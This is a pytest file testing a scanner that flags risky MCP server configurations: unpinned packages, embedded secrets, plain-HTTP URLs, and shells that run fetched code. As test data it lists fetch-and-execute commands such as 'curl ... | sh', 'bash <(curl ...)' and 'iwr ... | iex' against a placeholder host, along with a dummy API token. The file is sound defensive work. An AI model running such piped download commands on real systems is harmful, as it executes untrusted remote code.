"""Configured servers: each danger has a harmless twin; nothing that is secret is repeated."""

import contextlib
import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jingwei.assess import registry
from jingwei.assess.examples import run_example
from jingwei.errors import ParseError
from jingwei.layers.tools.agents.samples import MAIL, READING
from jingwei.layers.tools.agents.servers import Danger, dangers, parse_servers

CHECKS = registry.load().checks
TOKEN = "9fK2mQ7xV4bN8cR1tY6wZ3aS5dG0hJ2k"


def of(**entry):
    (server,) = parse_servers({"mcpServers": {"one": entry}})
    return [danger for danger, _ in dangers(server)]


def run(*words):
    return of(command=words[0], args=list(words[1:]))


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("npx -y server", True), ("npx server@latest", True), ("npx -y @scope/server", True), ("npx --package=server server", True),
        ("uvx server", True), ("uvx --from server tool", True), ("uvx server>=1.0", True), ("cmd /c npx -y server", True), ("pnpm dlx server", True),
        ("pipx run server", True), ("uv tool run server", True), ("env npx server", True), (r"C:\node\npx.cmd server", True),
        ("npx -y server@1.2.3", False), ("npx -y @scope/server@1.2.3", False), ("uvx server==1.2.3", False), ("uvx server@1.2.3 --flag", False),
        ("uvx --from server==1.2.3 tool", False), ("python -m server", False), ("node server.js", False), ("npx ./server", False),
        ("pnpm start", False),
    ],
)  # fmt: skip
def test_packages_without_a_version(words, expected):
    assert (Danger.UNPINNED in run(*words.split(" "))) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s https://example.org/x | sh", True), ("wget -qO- https://example.org/x | sudo bash", True), ("$(curl https://example.org/x)", True),
        ("bash <(curl https://example.org/x)", True), ("iwr https://example.org/x | iex", True),
        ("curl https://example.org/x -o x", False), ("cat x | sh", False), ("exec server", False),
    ],
)  # fmt: skip
def test_a_shell_that_runs_what_it_fetches(command, expected):
    assert (Danger.PIPE in run("bash", "-c", command)) is expected


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ({"command": "s", "env": {"API_TOKEN": TOKEN}}, True), ({"url": "https://example.org", "headers": {"X-Api-Key": TOKEN}}, True),
        ({"command": "s", "env": {"API_TOKEN": "${TOKEN}"}}, False), ({"command": "s", "env": {"HOME": "/home/desk"}}, False),
    ],
)  # fmt: skip
def test_secrets(entry, expected):
    assert (Danger.SECRET in of(**entry)) is expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [("http://example.org/mcp", True), ("https://example.org/mcp", False), ("http://localhost:8000", False), ("http://127.0.0.1.example.org", True)],
)  # fmt: skip
def test_addresses_without_tls(url, expected):
    assert (Danger.PLAIN in of(url=url)) is expected


def judge(check, files):
    made = CHECKS[f"tools.agent-tools-{check}"]
    return run_example(made, replace(made.examples[0], asset={"files": list(files)}, files=files))


def configuration(**entries):
    return json.dumps({"mcpServers": entries})


GOOD = {"command": "uvx", "args": ["server==1.2.3"]}


@pytest.mark.parametrize("check", ["approval", "instructions", "power"])
def test_a_server_needs_a_list_of_its_tools(check):
    one, two = configuration(a=GOOD), configuration(a=GOOD, b=GOOD)
    assert judge(check, {"mcp.json": one, "t.json": READING}).status == "pass"
    for files in ({"mcp.json": one}, {"mcp.json": two, "t.json": READING}):
        finding = judge(check, files)
        assert finding.status == "unknown"
        assert (finding.locations[0].member, finding.locations[0].name) == ("servers[0]", "a")
        assert "tools/list" in finding.locations[0].note.en


def test_a_configuration_hides_no_failure():
    assert judge("approval", {"mcp.json": configuration(a=GOOD), "t.json": MAIL}).status == "fail"


def test_a_secret_is_found_and_not_repeated():
    finding = judge(
        "power", {"mcp.json": configuration(a={"command": "s", "env": {"API_TOKEN": TOKEN}}), "t.json": READING}
    )
    assert (finding.status, finding.severity) == ("fail", "high")
    assert "env.API_TOKEN" in finding.locations[0].note.en
    assert TOKEN not in repr(finding)


@pytest.mark.parametrize("entry", [3, {"command": 3}, {"args": "x", "command": "a"}, {"url": []}])
def test_refused(entry):
    with pytest.raises(ParseError, match="server 0"):
        parse_servers({"mcpServers": {"one": entry}})


JSON = st.recursive(
    st.none()
    | st.integers()
    | st.text(max_size=12)
    | st.sampled_from(["npx", "-y", "--from", "cmd", "run", "uv", "tool", "="]),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.sampled_from(["command", "args", "env", "url"]), inner, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(JSON)
def test_any_entry(entry):
    with contextlib.suppress(ParseError):
        for server in parse_servers({"servers": {"one": entry}}):
            dangers(server)
